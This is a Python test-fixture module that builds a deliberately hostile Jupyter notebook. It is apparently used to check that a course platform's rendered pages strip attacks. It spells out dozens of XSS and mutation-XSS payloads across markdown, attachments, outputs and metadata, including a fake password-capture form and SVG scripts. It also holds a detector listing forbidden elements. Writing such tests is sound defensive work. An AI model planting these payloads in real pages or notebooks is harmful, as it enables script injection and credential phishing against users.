"""A learner's notebook built to attack whoever renders it (issue 49), for the page tests and the hub's.

Every payload either runs a script (which sets ``window.PWNED`` or ``document.title``), asks for a URL under
``beacon`` (a listener the test runs: any request that reaches it is a failure), navigates, or offers a form.
They sit in each place a learner writes: markdown (HTML, links, images, CSS, MathML, attachments), raw cells,
outputs of every mimetype, output and cell metadata, notebook metadata. Beside them, what an honest page shows:
a heading, math, a table, highlighted code and an attached PNG, which must survive.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path
from urllib.parse import urlsplit

import nbformat

#: what the payloads' scripts write, and what a page must never show as its title
MARK = "PWNED"
#: a 1x1 PNG
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
#: the honest part, whose text must still be on the page
HONEST_TEXT = "An honest heading"


#: a page's state in the browser (a function for page.evaluate, given the selector of the learner's part of the
#: page): whether a learner's script ran (``ran``, ``title``), where the page is (``url``), what the learner's part
#: holds that it must not (``bad``: an element that runs, loads, frames or takes input, an event handler, a URL but
#: a fragment or a base64 image), and what it shows
PAGE_STATE = """(selector) => {
    const boxes = Array.from(document.querySelectorAll(selector));
    const forbidden = new Set(%s);
    const urls = ['href', 'src', 'srcset', 'action', 'formaction', 'poster', 'data', 'background', 'ping',
                  'xlink:href', 'content'];
    const bad = [];
    for (const el of boxes.flatMap(box => Array.from(box.querySelectorAll('*')))) {
        if (forbidden.has(el.localName)) bad.push('<' + el.localName + '>');
        for (const a of el.attributes) {
            if (a.name.startsWith('on')) bad.push('<' + el.localName + ' ' + a.name + '>');
            else if (urls.includes(a.name) && !(a.name === 'href' && a.value.startsWith('#'))
                     && !(a.name === 'src' && a.value.startsWith('data:image/')))
                bad.push('<' + el.localName + ' ' + a.name + '=' + a.value.slice(0, 80) + '>');
        }
    }
    const count = css => boxes.reduce((n, box) => n + box.querySelectorAll(css).length, 0);
    return {ran: window.%s === undefined ? null : String(window.%s), title: document.title, url: location.href,
            bad: bad, text: boxes.map(box => box.innerText).join('\\n'), math: count('math'),
            images: count('img[src^="data:image/png"]'), tables: count('table'), code: count('.highlight span')};
}""" % (json.dumps(["script", "style", "iframe", "frame", "object", "embed", "link", "meta", "base", "form",
                    "input", "button", "textarea", "select", "svg", "video", "audio", "source", "picture",
                    "template", "noscript"]), MARK, MARK)


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def markdown_payloads(beacon: str, missing_attachment: bool = True) -> list[str]:
    """Markdown a learner writes: each item one trick (the issue's, and the classic mutation-XSS ones). A relative
    URL is the beacon's path on the page's own host (``/<beacon path>/...``)."""
    run = f"window.{MARK}=1;document.title='{MARK}'"
    here = urlsplit(beacon).path
    return [
        f"<script>{run}</script>",
        f"<img src=x onerror=\"{run}\">",
        f"<svg onload=\"{run}\"><script>{run}</script></svg>",
        f"<iframe srcdoc=\"<script>parent.{MARK}=1</script>\" src=\"{beacon}/iframe\"></iframe>",
        f"[a link](javascript:{run})",
        f"<a href=\"javascript:{run}\">a link</a> <a href=\"data:text/html,<script>{run}</script>\">data</a>",
        f"<form action=\"{beacon}/form\" method=post>Password: <input type=password name=p autofocus "
        f"onfocus=\"{run}\"><button formaction=\"{beacon}/button\">Log in again</button></form>",
        f"<meta http-equiv=\"refresh\" content=\"0;url={beacon}/refresh\">",
        f"<base href=\"{beacon}/base/\"><img src=\"relative.png\"><a href=\"relative\">relative</a>",
        f"<style>@import url({beacon}/import.css); body {{ background: url({beacon}/style.png) }}</style>",
        f"<div style=\"background-image: url('{beacon}/inline.png')\">styled</div>",
        f"<img src=\"{beacon}/img.png\"> ![markdown image]({beacon}/md.png) <img srcset=\"{beacon}/srcset.png 2x\">",
        f"<link rel=stylesheet href=\"{beacon}/link.css\"><link rel=prefetch href=\"{beacon}/prefetch\">",
        f"<object data=\"{beacon}/object\"></object><embed src=\"{beacon}/embed\">",
        f"<video poster=\"{beacon}/poster.png\" src=\"{beacon}/video\"></video><audio src=\"{beacon}/audio\"></audio>",
        f"<picture><source srcset=\"{beacon}/source.png\"><img></picture>",
        f"<math><mtext><table><mglyph><style><img src=x onerror=\"{run}\"></style></mglyph></table></mtext></math>",
        f"<noscript><p title=\"</noscript><img src=x onerror=&quot;{run}&quot;>\"></noscript>",
        f"<details open ontoggle=\"{run}\"><summary>details</summary></details>",
        f"<title><img src=x onerror=\"{run}\"></title><textarea><img src=x onerror=\"{run}\"></textarea>",
        f"<a href=\"{beacon}/ping\" ping=\"{beacon}/ping2\">ping</a>",
        f"<svg><image href=\"{beacon}/svgimage.png\"/><style>@import '{beacon}/svgstyle.css';</style></svg>",
        f"$\\href{{javascript:{run}}}{{x}}$ and $\\text{{<img src=x onerror=\"{run}\">}}$",
        f"<img src=\"{here}/relative.png\"> ![relative]({here}/relative-md.png) <a href=\"{here}/away\">away</a>",
        "<b id=\"submission_id\">an id of the page's own</b>",
        ("![missing](attachment:missing.png) " if missing_attachment else "")
        + "![not an image](attachment:page.html) ![svg](attachment:drawing.svg) ![bad](attachment:bad.png)",
    ]


def attack_cell(beacon: str, missing_attachment: bool = True) -> nbformat.NotebookNode:
    """A markdown cell of every payload, with attachments that are no image, an SVG with a script, or not base64,
    and cell tags that would add the page's own classes."""
    run = f"window.{MARK}=1;document.title='{MARK}'"
    cell = nbformat.v4.new_markdown_cell("\n\n".join(markdown_payloads(beacon, missing_attachment)))
    cell.attachments = {"page.html": {"text/html": _b64(f"<script>{run}</script>")},
                        "drawing.svg": {"image/svg+xml": _b64(_svg(beacon))},
                        "bad.png": {"image/png": f"\" onerror=\"{run}"}}
    cell.metadata["tags"] = ["x onmouseover=alert(1)", "navbar-fixed-top modal"]
    return cell


def _svg(beacon: str) -> str:
    run = f"window.{MARK}=1;document.title='{MARK}'"
    return (f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{run}\"><script>{run}</script>"
            f"<image href='{beacon}/svg.png'/></svg>")


def hostile_notebook(beacon: str, missing_attachment: bool = True, invalid: bool = False) -> nbformat.NotebookNode:
    """The whole attack in one notebook; ``invalid``: with execution counts that are HTML, which nbformat's
    schema refuses but a file can hold (nbgrader's feedback reads it; the formgrader refuses to render it)."""
    run = f"window.{MARK}=1;document.title='{MARK}'"
    svg = _svg(beacon)
    nb = nbformat.v4.new_notebook()
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}}
    nb.metadata["title"] = f"<img src=x onerror=\"{run}\">"
    honest = nbformat.v4.new_markdown_cell(
        f"# {HONEST_TEXT}\n\nScale by <math><mfrac><mn>1</mn><msqrt><mi>d</mi></msqrt></mfrac></math>.\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```python\ndef f(x):\n    return x\n```\n\n"
        "![a dot](attachment:dot.png) [to the heading](#An-honest-heading)\n")
    honest.attachments = {"dot.png": {"image/png": PNG}}
    attack = attack_cell(beacon, missing_attachment)
    forged = nbformat.v4.new_markdown_cell("a cell that claims to be graded")
    forged.metadata["nbgrader"] = {"grade": False, "solution": True, "locked": False, "schema_version": 3,
                                   "grade_id": f"<img src=x onerror=\"{run}\">"}
    raw_html = nbformat.v4.new_raw_cell(f"<script>{run}</script><img src=\"{beacon}/raw.png\" onerror=\"{run}\">")
    raw_html.metadata["raw_mimetype"] = "text/html"
    raw_plain = nbformat.v4.new_raw_cell(f"<img src=x onerror=\"{run}\"><iframe src=\"{beacon}/raw-frame\">")
    code = nbformat.v4.new_code_cell("print('hi')", execution_count=1)
    code.outputs = [
        nbformat.v4.new_output("stream", name="stdout", text=f"<script>{run}</script>"),
        nbformat.v4.new_output("display_data", data={
            "text/html": f"<b>html output</b><script>{run}</script><img src=\"{beacon}/html-output.png\">",
            "application/javascript": run}, metadata={"text/html": {"isolated": True}}),
        nbformat.v4.new_output("display_data", data={
            "text/markdown": f"<img src=x onerror=\"{run}\"> ![md output]({beacon}/md-output.png)"}),
        nbformat.v4.new_output("display_data", data={"image/svg+xml": svg, "text/plain": "an svg"}),
        nbformat.v4.new_output("display_data", data={"image/png": PNG}, metadata={
            "image/png": {"width": f"1 onload=window.{MARK}=1", "height": "1 class=navbar-fixed-top"},
            "filenames": {"image/png": f"{beacon}/filename.png"}}),
        nbformat.v4.new_output("display_data", data={"image/jpeg": f"x\" onerror=\"{run}"}),
        nbformat.v4.new_output("display_data", data={
            "application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2, "version_minor": 0},
            "text/vnd.mermaid": f"</pre><img src=x onerror=\"{run}\">"}),
        nbformat.v4.new_output("error", ename="Error", evalue=f"<img src=x onerror=\"{run}\">",
                               traceback=[f"<script>{run}</script>"]),
    ]
    nb.cells = [honest, attack, forged, raw_html, raw_plain, code]
    # nbformat's schema lets extra keys through: an output file's name, which nbconvert's templates would load
    nb.cells[-1].outputs[3]["svg_filename"] = f"{beacon}/svg-filename.svg"
    if invalid:  # the templates write both unquoted: "In [...]", "Out[...]"
        result = nbformat.v4.new_output("execute_result", data={"text/plain": "1"}, execution_count=1)
        counted = nbformat.v4.new_code_cell("1", outputs=[result])
        counted["execution_count"] = result["execution_count"] = f"<img src=x onerror={run}>"
        nb.cells.append(counted)
    return nb


def unrenderable_notebook() -> nbformat.NotebookNode:
    """A notebook nbconvert cannot render at all: its language_info is not an object (nbconvert reads it before
    any preprocessor, so nothing of the course's can repair it)."""
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell("# unrenderable")]
    nb.metadata["language_info"] = None
    return nb


def write_notebook(nb: nbformat.NotebookNode, path: Path) -> None:
    """Write ``nb`` as JSON without validating it (it is not all valid nbformat, on purpose)."""
    path.write_text(json.dumps(nb, indent=1))
